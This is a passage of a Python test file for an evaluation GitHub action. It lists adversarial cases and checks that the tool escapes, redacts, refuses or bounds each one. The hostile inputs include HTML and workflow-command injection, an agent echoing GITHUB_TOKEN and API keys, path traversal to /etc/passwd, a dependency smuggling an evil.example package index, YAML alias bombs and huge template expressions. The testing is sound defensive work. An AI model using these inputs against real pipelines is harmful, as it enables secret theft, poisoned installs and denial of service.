         r"large", limits={"adk_eval_action.baseline.artifact.MAX_HISTORY_BYTES": 1_000_000},
         twin={}),
    Case("k3-history-of-another-repository", 3, _history_artifact(_history(
        [_recorded("c" * 40, "2.13.0")], repository="evil/other")), 0,
         r"history not used: .*recorded in another repository \(evil/other, not octo/agents\)",
         twin={}),
    Case("k3-history-from-the-future", 3, _history_artifact(_history([], schema_version=99)),
         0, r"history not used: .*written by a newer adk-eval-action \(history schema_version "
         r"99; this version reads 1\)", twin={}),
    Case("k3-history-of-another-google-adk-is-not-pooled", 3, _history_artifact(_history(
        [_recorded("d" * 40, "1.23.0"), _recorded("c" * 40, "2.13.0")]), pool_runs="5"), 0,
         r"baseline: artifact", check=_history_said(
             "nothing pooled: no earlier recorded run with the baseline's inputs, google-adk "
             "and judges"), twin={}),
    # Issue 34, "Silent, history": the history's runs are checked as a results file's
    # (branch, range, duplicates); what is left out is said in the log and the comment.
    Case("k3-history-runs-of-another-branch", 3, _flaky_on_another_branch, 1,
         r"history: adk-eval-history\.json of the artifact adk-eval-results: 4 recorded runs "
         r"of another branch \(feature/x\) left out .*not the history's branch main",
         check=_not_quarantined),
    Case("k3-history-scores-outside-their-range", 3, _history_artifact(_history([
        _recorded("1" * 40, "2.13.0", scores=[1e300]),
        _recorded("2" * 40, "2.13.0", scores=[-1e300]),
        _recorded("3" * 40, "2.13.0"), _recorded("c" * 40, "2.13.0")]), pool_runs="5"), 0,
         r"2 recorded runs with impossible scores left out .*metric `m`: score 1e\+300 is "
         r"outside its value range \[0\.0, 1\.0\]", check=_history_said(
             "History: 2 recorded runs (from the baseline artifact adk-eval-results; left out "
             "2 recorded runs with impossible scores)"), twin={}),
    Case("k3-history-the-same-run-repeated", 3, _history_artifact(_history(
        [_recorded("1" * 40, "2.13.0", recorded_at="2026-01-01T00:00:00Z")] * 3
        + [_recorded("c" * 40, "2.13.0")]), pool_runs="5"), 0,
         r"2 recorded runs repeated left out \(commits 111111111111\)", check=_history_said(
             "History: 2 recorded runs (from the baseline artifact adk-eval-results; left out "
             "2 recorded runs repeated)"), twin={}),
    Case("k3-history-push-after-a-malformed-one", 3, _history_artifact(
        lambda: b"{not json", push=True), 0,
         r"history: the previous history could not be read: .*not a history file",
         check=_new_history_recorded, twin={}),
    # 4. The sticky comment
    # 4. The sticky comment
    Case("k4-marker-in-eval-id", 4, _marker_in_eval_id, 1, r"PR comment created",
         check=_only_our_marker_last),
    Case("k4-other-key-does-not-take-over", 4, _other_key_takes_nothing, 0,
         r"PR comment created", check=_default_comment_untouched, twin={}),
    # 5. Workflow-command injection
    Case("k5-eval-id-and-agent-text-commands", 5,
         lambda ws: ws.hostile_agent(INJECTION, cases=[INJECTION]), 1,
         r"failing eval case", check=_annotations_after),
    Case("k5-control-and-bidi-characters-in-eval-id", 5,
         lambda ws: ws.hostile_agent("Go away.", cases=[CONTROLS]), 1,
         r"failing eval case", check=_controls_shown_escaped),
    Case("k5-html-report-script-handlers-links-bidi", 5,
         lambda ws: ws.hostile_agent(REPORT_TEXT, cases=[REPORT_TEXT]), 1,
         r"failing eval case", check=_report_inert),
    Case("k5-eval-config-like-file-name", 5, _config_like_file, 1,
         r"looks like an eval config", check=_config_like_name_inert),
    Case("k5-init-hostile-folder-name", 5, _hostile_folder, 0, r"wrote adk-eval\.yaml",
         evaluated=False, recorded=False, cli=True, run=lambda ws: ws.cli("init"),
         check=_init_round_trips),
    Case("k5-init-command-in-a-hostile-file", 5, _command_in_a_hostile_file, 0,
         r"wrote adk-eval\.yaml", evaluated=False, recorded=False, cli=True,
         run=lambda ws: ws.cli("init", "--num-runs", "1"), check=_command_source_escaped),
    Case("k5-init-empty-eval-set-hostile-name", 5, _empty_eval_set_in_hostile_folder, 0,
         r"wrote adk-eval\.yaml", evaluated=False, recorded=False, cli=True,
         run=lambda ws: ws.cli("init"), check=_empty_eval_set_excluded),
    Case("k5-cli-print-comment-in-a-run-step", 5,
         lambda ws: ws.hostile_agent(INJECTION, cases=[INJECTION]), 1, r"gate FAILED",
         run=lambda ws: ws.cli("run", "hostile_agent", "--print-comment", "--comment-out",
                               "comment.md", "--summary-out", "summary.md"), cli=True),
    Case("k5-config-error-text-before-evaluation", 5, lambda ws: ws.config({"suites": [{
        "name": "t", "agent": HOSTILE_AGENT_NAME,
        "eval_sets": ["travel_agent/eval/travel.evalset.json"]}]}), 2,
        r"agent folder nope.*not found", evaluated=False,
        check=_stop_posted("nope&lt;img src=x&gt;")),
    Case("k5-camelcase-config-bad-match-type", 5, _camel_config_bad_match_type, 2,
         r"field `criteria\.tool_trajectory_avg_score\.matchType`.*must be one of EXACT, "
         r"IN_ORDER, ANY_ORDER", check=_refused_before_any_case),
    Case("k5-bad-input-before-evaluation", 5, lambda ws: ws.inputs.update(num_runs="abc"),
         2, r"invalid input num_runs", evaluated=False, check=_stop_posted()),
    Case("k5-budget-input-nan", 5, lambda ws: ws.inputs.update(max_usd="nan"),
         2, r"invalid input max_usd", evaluated=False, check=_stop_posted()),
    Case("k5-price-nan-in-adk-eval-yaml", 5, lambda ws: ws.config({"models": {
        "gemini-2.5-flash": {"input_usd_per_1m_tokens": math.nan,
                             "output_usd_per_1m_tokens": 1.0}}}),
         2, r"models\.gemini-2\.5-flash\.input_usd_per_1m_tokens", evaluated=False,
         check=_stop_posted()),
    Case("k5-budget-below-the-plan", 5, lambda ws: ws.inputs.update(max_model_calls="1"),
         2, r"refused before any model call: the plan needs ~\d+ model calls", evaluated=False,
         check=_stop_posted("max\\_model\\_calls 1")),
    *(Case(f"k5-init-default-branch-{branch}", 5, functools.partial(_git_repository,
           branch=branch), 0, r"wrote \.github/workflows", evaluated=False, recorded=False,
           cli=True, run=lambda ws: ws.cli("init"), check=_pushes_only(branch))
      for branch in YAML_BRANCHES),
    *(Case(f"k5-init-working-directory-{folder}", 5, functools.partial(_in_folder,
           folder=folder), 0, r"wrote \.\./\.github/workflows", evaluated=False,
           recorded=False, cli=True, run=_init_in(folder), check=_uploads_from(folder))
      for folder in YAML_FOLDERS),
    Case("k4-init-beside-a-workflow-that-runs-the-action", 4, _workflow_running_the_action, 2,
         r"\.github/workflows/adk-eval\.yaml.*already runs adk-eval-action: a second one "
         r"beside it would fight it over the sticky comment", evaluated=False, recorded=False,
         cli=True, run=lambda ws: ws.cli("init"), check=_nothing_written),
    # 6. Secrets
    Case("k6-agent-echoes-secrets", 6, lambda ws: ws.hostile_agent(
        "token=<{env[INPUT_GITHUB_TOKEN]}{env[GITHUB_TOKEN]}> key=<{env[GOOGLE_API_KEY]}> "
        "password=<{env[DB_PASSWORD]}>"), 1, r"PR comment created",
        check=_token_gone_from_agent),
    Case("k6-cli-agent-echoes-secrets", 6, lambda ws: ws.hostile_agent(
        "key=<{env[GOOGLE_API_KEY]}> password=<{env[DB_PASSWORD]}>"), 1, r"gate FAILED",
        run=lambda ws: ws.cli("run", "hostile_agent", "--print-comment", "--comment-out",
                              "comment.md", "--summary-out", "summary.md"), cli=True,
        check=lambda run: _assert("key=<***>" in json.dumps(run.results))),
    # Issue 34, "Silent, HTML report": redacted in the data, not in the page's own code.
    # Through the CLI: the action would (rightly) mask the word in the runner's log.
    Case("k6-html-report-secret-is-a-word-of-its-script", 6, _secret_a_word_of_the_script, 1,
         r"gate FAILED", cli=True, check=_script_whole_secret_gone,
         run=lambda ws: ws.cli("run", "hostile_agent", "--html-out", "adk-eval-report.html",
                               "--comment-out", "comment.md", "--summary-out", "summary.md")),
    Case("k6-next-page-link-to-another-origin", 6, _next_link(
        lambda ws: f"{ws.other_server().api_url}{COMMENTS}?page=2"), 0,
         r"next-page link of GET \S+/comments .*points to http://127\.0\.0\.1:\d+, not "
         r"GITHUB_API_URL .*not followed", check=_token_stays_home, twin={}),
    # 7. Unbounded work
    Case("k7-yaml-alias-bomb", 7, _alias_bomb, 2, r"bomb\.yaml.*alias", seconds=30),
    Case("k7-eval-set-symlink-to-dev-zero", 7, _dev_zero_eval_set, 2,
         r"zero\.evalset\.json|/dev/zero", evaluated=False, seconds=30),
    Case("k7-recursive-glob-through-dot-dot-links", 7, _dot_dot_links, 0,
         r"PR comment created", seconds=40, twin={}),
    # Issue 34's HANG: each suite imported its agent and parsed its files again, in
    # import scopes of its own (benchmarks/bench_plan_suites.py: 10 s for 5,000).
    Case("k7-hang-plan-5000-suites-of-one-agent", 7, _suites_of_one_agent(5000), 0,
         r"total: 20000 case run\(s\)", evaluated=False, recorded=False, cli=True,
         seconds=30, run=lambda ws: ws.cli("plan"), check=_every_suite_planned(5000)),
    # Issue 34, "Slow": google-adk's ROUGE metric on a 10 MB answer held the event loop
    # every case run shares (benchmarks/bench_long_answer.py); the work per answer is bounded.
    Case("k7-slow-an-answer-of-10-mb", 7, _long_answer, 1,
         r"the agent's answer on turn 1 is 10,485,760 characters, over the 1,048,576 a "
         r"metric is given", check=_long_answer_bounded),
    Case("k7-plan-a-billion-runs", 7, lambda ws: None, 2,
         r"'--num-runs': 1000000000 is not in the range 1<=x<=1000", evaluated=False,
         recorded=False, cli=True, seconds=30,
         run=lambda ws: ws.cli("plan", "travel_agent", "--num-runs", "1000000000")),
    # Issue 34, "Silent, unchanged": adaptive repeats that can add no run are refused by
    # name; without a baseline they are said not to run.
    Case("k7-adaptive-runs-not-above-num-runs", 7, lambda ws: ws.gemini.clear_calls(), 2,
         r"--adaptive-runs 1: adaptive repeats run an eval case up to 1 time in all, and "
         r"--num-runs 3 already runs each 3 times: they could add no run; set it above 3, or "
         r"leave it out", evaluated=False, cli=True, seconds=30,
         run=_run_cli("--adaptive-runs", "1", "--num-runs", "3", "--comment-out", "comment.md"),
         check=lambda run: _assert(not run.workspace.gemini.calls)),
    Case("k7-adaptive-runs-without-a-baseline", 7,
         lambda ws: ws.inputs.update(adaptive_runs="4"), 0,
         r"adaptive repeats \(input adaptive_runs 4\) not run: there is no baseline to "
         r"compare with", check=_history_said(
             "adaptive repeats (input adaptive\\_runs 4) not run: there is no baseline to "
             "compare with"), twin={}),
    Case("k7-input-a-billion-runs", 7, lambda ws: ws.inputs.update(num_runs="1000000000"), 2,
         r"invalid input num_runs: Input should be less than or equal to 1000",
         evaluated=False, seconds=30, check=_stop_posted()),
    Case("k7-template-huge-string", 7, _template("{{ 'x' * 10**9 }}"), 2,
         r"mine\.md\.j2(:\d+)?: template error", **TEMPLATE_ROW),
    Case("k7-template-huge-power", 7, _template("{{ 10**(10**9) }}"), 2,
         r"mine\.md\.j2(:\d+)?: template error", **TEMPLATE_ROW),
    Case("k7-template-nested-loops", 7, _template(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"),
        2, r"mine\.md\.j2(:\d+)?: template error.*longer than 3 s", **TEMPLATE_ROW),
    Case("k7-template-lipsum", 7, _template("{{ lipsum(n=10**6) }}"), 2,
         r"mine\.md\.j2(:\d+)?: template error", **TEMPLATE_ROW),
    # 8. Paths outside the workspace
    Case("k8-init-github-folder-links-out", 8, _github_out_of_the_repository, 2,
         r"the workflow folder \.github/workflows \(a link to .*\) is outside the "
         r"repository root", evaluated=False, recorded=False, cli=True,
         run=lambda ws: ws.cli("init"), check=_nothing_written),
    Case("k8-eval-set-glob-dot-dot", 8, lambda ws: ws.config({"suites": [{
        "name": "t", "agent": "travel_agent", "eval_sets": ["../" * 12 + "etc/*"]}]}), 2,
         r"outside the repository root", evaluated=False),
    Case("k8-absolute-eval-set", 8, lambda ws: ws.config({"suites": [{
        "name": "t", "agent": "travel_agent", "eval_sets": ["/etc/passwd"]}]}), 2,
         r"/etc/passwd is outside the repository root", evaluated=False),
    Case("k8-symlinked-eval-set-out", 8, _symlink_out, 2,
         r"suite travel_agent: eval set travel_agent/eval/linked\.evalset\.json \(a link to "
         r"\S*/elsewhere/eval/x\.evalset\.json\) is outside the repository root",
         evaluated=False),
    Case("k8-working-directory-above-the-workspace", 8, _working_directory_up, 2,
         r"invalid input working_directory: .*/\.\./\.\. resolves to .*, outside the "
         r"workspace .* \(GITHUB_WORKSPACE\)", evaluated=False, recorded=False,
         check=_nothing_outside),
    Case("k8-paths-select-no-suite-of-adk-eval-yaml", 8, _paths_select_no_suite, 2,
         r"no suite of adk-eval\.yaml has its agent or an eval set under it \(travel \(agent "
         r"travel_agent\)\)", evaluated=False,
         check=_stop_posted("else &lt;img src=x&gt; @\u200boctocat")),
    Case("k8-pyproject-dependency-is-an-installer-option", 8,
         _pyproject_dependency_is_an_option, 2,
         r"requirements: pyproject\.toml: '--index-url=http://evil\.example/simple ::error::x' "
         r"in \[project\]\.dependencies is not a requirement", evaluated=False),
    Case("k8-results-path-is-the-baseline-file", 8, _results_path_is_the_baseline, 2,
         r"the results file would overwrite the baseline file it compares with \(--baseline "
         r"link\.json\)", evaluated=False, recorded=False, check=_baseline_kept),
    Case("k8-results-path-above-the-workspace", 8, _results_path_up, 2,
         r"invalid input results_path: \.\./\.\./outside\.json resolves to .*, outside "
         r"the workspace", evaluated=False, recorded=False, check=_nothing_outside),
    # 9. Long waits and slow loading
    Case("k9-secondary-rate-limit-no-retry-after", 9, lambda ws: ws.stub.fail_next(
        403, message="You have exceeded a secondary rate limit.", times=10),
        0, r"rate limit", limits=API_LIMITS, seconds=30, check=_comment_in_file_only,
        twin={}),
    Case("k9-slow-api", 9, lambda ws: ws.stub.fail_next(200, delay=35, times=3, path="pulls"),
         0, r"PR comment not posted", limits=API_LIMITS, seconds=40, twin=QUICK_API_BUDGET),
    Case("k9-next-page-link-to-the-same-page", 9, _next_link(
        lambda ws: f"{ws.stub.api_url}{COMMENTS}?per_page=100", times=3000), 0,
         r"names a page already read .*the pagination loops", seconds=30,
         check=_comment_pages_read(2), twin={}),
    Case("k9-10000-cases-load", 9, _many_cases, 2, r"duplicate eval_id\(s\): case_0",
         seconds=60),
    # 10. Signals
    Case("k10-sigterm-mid-run", 10, _signal_in_second_suite("SIGTERM"), 143,
         r"stopped by SIGTERM", check=_partial_results),
    Case("k10-sigint-mid-run", 10, _signal_in_second_suite("SIGINT"), 130,
         r"stopped by SIGINT", check=_partial_results),
    # 11. Mentions and references
    Case("k11-mentions-and-references", 11, _mention_case, 1, r"PR comment created",
         check=_no_mentions),
]

__all__ = ["CASES", "REPO", "Case", "pytest"]
